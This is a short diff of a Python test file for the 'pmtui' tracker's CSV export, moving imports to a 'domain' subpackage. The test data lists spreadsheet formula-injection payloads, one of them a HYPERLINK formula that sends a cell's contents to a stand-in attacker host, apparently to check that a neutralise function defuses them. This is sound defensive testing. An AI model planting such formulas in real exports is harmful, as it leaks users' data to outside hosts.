@@ -15,8 +15,8 @@ from pathlib import Path
 
 import pytest
 
-from pmtui import tracker
-from pmtui.tracker import ActionRow, neutralise, to_csv, to_tracker_csv
+from pmtui.domain import tracker
+from pmtui.domain.tracker import ActionRow, neutralise, to_csv, to_tracker_csv
 
 INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)",
               "\t=1+1", "\r=1+1"]
